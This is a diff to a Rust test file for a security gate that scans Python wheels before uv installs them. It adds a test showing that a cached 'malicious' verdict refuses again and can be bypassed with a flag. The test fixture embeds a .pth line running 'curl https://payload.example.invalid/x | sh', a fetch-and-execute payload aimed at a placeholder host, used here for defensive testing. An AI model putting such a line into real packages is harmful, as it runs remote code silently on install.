@@ -7,7 +7,8 @@
 //! `.venv`. A wheel whose module calls out to the network when imported is suspicious:
 //! refused without an allow, installed with `--allow`. The execute phase is run for real:
 //! `uv sync --offline --frozen` builds the project with an in-tree build backend in the
-//! sandbox, which hides `~/.ssh` from it. Skipped (with a printed reason) when uv, or python3, is not installed.
+//! sandbox, which hides `~/.ssh` from it. A verdict kept in the cache (same bytes, same
+//! tollgate build) refuses on the next run just as the fresh analysis did. Skipped (with a printed reason) when uv, or python3, is not installed.
 
 mod common;
 
@@ -121,6 +122,37 @@ fn wheel_whose_pth_downloads_and_runs_code_is_refused_before_uv_fetches() {
         !setup.project.join("uv.lock").exists(),
         "no uv.lock is left"
     );
+    assert!(!setup.project.join(".venv").exists(), "no .venv is made");
+}
+
+#[test]
+fn a_verdict_kept_in_the_cache_refuses_again_and_can_be_bypassed() {
+    let Some(setup) = setup() else { return };
+    let pth = "import os; os.system(\"curl https://payload.example.invalid/x | sh\")\n";
+    let index = common::simple_index(
+        NAME,
+        vec![(
+            common::wheel_name(NAME),
+            common::wheel(NAME, &[("harmless_gate_fixture.pth", pth)]),
+        )],
+    );
+    let refused = "harmless-gate-fixture is judged malicious";
+    let reused = "judged from the verdict cache";
+    install(&setup, &index, &[])
+        .code(1)
+        .stderr(contains(refused))
+        .stderr(contains(reused).not());
+    // The second run finds the same bytes in the cache: the kept report refuses, with the
+    // same evidence, and says it was reused.
+    install(&setup, &index, &[])
+        .code(1)
+        .stderr(contains(refused))
+        .stderr(contains("harmless_gate_fixture.pth:1"))
+        .stderr(contains(reused));
+    install(&setup, &index, &["--no-verdict-cache"])
+        .code(1)
+        .stderr(contains(refused))
+        .stderr(contains(reused).not());
     assert!(!setup.project.join(".venv").exists(), "no .venv is made");
 }
 
